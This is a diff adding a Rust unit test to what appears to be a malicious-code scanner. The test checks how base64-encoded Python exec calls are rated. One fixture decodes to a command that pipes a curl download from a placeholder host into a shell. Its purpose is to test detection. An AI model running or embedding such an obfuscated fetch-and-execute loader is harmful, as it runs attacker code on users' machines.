@@ -268,4 +268,28 @@ mod tests {
             );
         }
     }
+
+    /// Decoding and running a payload that does nothing risky (a lesson's `print("Hello")`) is high; the same call
+    /// with a download piped to a shell inside is critical.
+    #[test]
+    fn a_harmless_payload_run_from_base64_is_high_not_a_threat() {
+        use crate::rules::tests::{level, run};
+        use airlock_types::{FileKind, Severity};
+        let lesson = run(
+            FileKind::Script,
+            "x.py",
+            "exec(__import__('base64').b64decode('cHJpbnQoIkhlbGxvIik='))\n",
+        );
+        assert_eq!(
+            level("obfusc/encoded-exec", &lesson),
+            Some(Severity::High),
+            "{lesson:?}"
+        );
+        let payload = run(FileKind::Script, "x.py", "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUvcCB8IHNoJyk='))\n");
+        assert_eq!(
+            level("obfusc/encoded-exec", &payload),
+            Some(Severity::Critical),
+            "{payload:?}"
+        );
+    }
 }
